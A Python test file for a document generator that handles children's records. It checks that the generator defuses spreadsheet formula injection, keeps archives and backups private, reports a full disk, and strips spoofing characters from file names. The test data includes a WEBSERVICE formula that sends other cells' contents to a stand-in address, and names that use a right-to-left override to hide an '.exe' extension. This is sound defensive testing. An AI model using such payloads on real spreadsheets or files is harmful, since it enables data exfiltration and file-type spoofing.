"""Children's data stays where it belongs: no formula runs from the inventory, archives and
backups are private, file names cannot pretend to be something else, a full disk is explained."""

from __future__ import annotations

import csv
import errno
import os
import shutil
import stat
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from docgen import api
from docgen.errors import OutputError
from docgen.output import archive
from docgen.output.files import safe_name

from ..helpers import EXAMPLE, edited_copy, find_cell

AS_OF = date(2026, 11, 23)
INJECTION = '=WEBSERVICE("http://127.0.0.1:9/?"&E2&E3)'


def registry_with_text(tmp_path: Path, sheet: str, cell: str, text: str) -> Path:
    """A copy of the example whose cell holds ``text`` as text (typed with an apostrophe in Excel)."""
    wb = openpyxl.load_workbook(EXAMPLE)
    wb[sheet][cell].value = text
    wb[sheet][cell].data_type = "s"
    wb.save(tmp_path / "r.xlsx")
    return tmp_path / "r.xlsx"


def test_a_formula_in_a_registry_cell_stays_text_in_the_inventory(tmp_path):
    reg = registry_with_text(tmp_path, "Наставляемые", find_cell(EXAMPLE, "Наставляемые", "ФИО", 2),
                             INJECTION + " Алексеева Таисия Романовна")
    assert api.check(reg, as_of=AS_OF) == []  # the registry is fine: the text is a (strange) name
    result = api.make(["consent_tracking"], reg, tmp_path / "out", as_of=AS_OF)
    xlsx = next(p for p in result.manifest if p.suffix == ".xlsx")
    with zipfile.ZipFile(xlsx) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet, "a registry text became a live formula"
    wb = openpyxl.load_workbook(xlsx)
    assert all(c.data_type != "f" for row in wb.active.iter_rows() for c in row)
    with open(next(p for p in result.manifest if p.suffix == ".csv"), encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh, delimiter=";") for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "a CSV cell a spreadsheet would run"


def test_csv_guard_covers_every_dangerous_start():
    from docgen.output.manifest import as_text

    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert as_text(text).startswith("'")
    assert as_text("Иванов") == "Иванов"


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_zip_members_are_private(tmp_path):
    result = api.make(["consent_tracking"], EXAMPLE, tmp_path / "out", as_of=AS_OF,
                      select=api.Selection.parse(where=["Класс=5А"]), outputs=api.Outputs(zip=True))
    with zipfile.ZipFile(result.archive) as z:
        modes = {stat.S_IMODE(i.external_attr >> 16) for i in z.infolist()}
    assert modes == {0o600}


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_backups_are_private_even_in_an_open_folder(tmp_path):
    reg = tmp_path / "реестр.xlsx"
    shutil.copy(EXAMPLE, reg)
    os.chmod(reg, 0o644)
    backups = tmp_path / "docgen-резервные-копии"
    backups.mkdir(mode=0o755)
    api.make(["order_intro"], reg, tmp_path / "out", as_of=AS_OF)
    copies = list(backups.iterdir())
    assert copies and all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in copies)


def test_a_full_disk_while_zipping_is_a_russian_error(tmp_path, monkeypatch):
    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(archive, "_write", full)
    out = tmp_path / "out"
    with pytest.raises(OutputError, match="Не удаётся записать архив .zip: на диске закончилось место"):
        api.make(["consent_tracking"], EXAMPLE, out, as_of=AS_OF, outputs=api.Outputs(zip=True))
    assert not list(out.rglob("*.docx"))


@pytest.mark.parametrize("name", ["Иванов\u202excod.exe", "Иван\u200bов", "\u2066Петров\u2069", "А\u200fБ"])
def test_invisible_format_characters_are_dropped_from_file_names(name):
    shown = safe_name(name)
    assert all(ord(ch) not in range(0x2000, 0x2070) for ch in shown)
    assert "\u202e" not in shown and "\u200b" not in shown


def test_a_bidi_override_in_a_name_does_not_reach_the_file_name(tmp_path):
    cell = find_cell(EXAMPLE, "Наставляемые", "ФИО", 2)
    reg = edited_copy(EXAMPLE, tmp_path / "r.xlsx", {("Наставляемые", cell): "Алексеева\u202excod.exe Таисия Романовна"})
    result = api.make(["consent_parent"], reg, tmp_path / "out", as_of=AS_OF,
                      select=api.Selection.parse(rows="2"))
    assert result.files and all("\u202e" not in p.name for p in result.files)
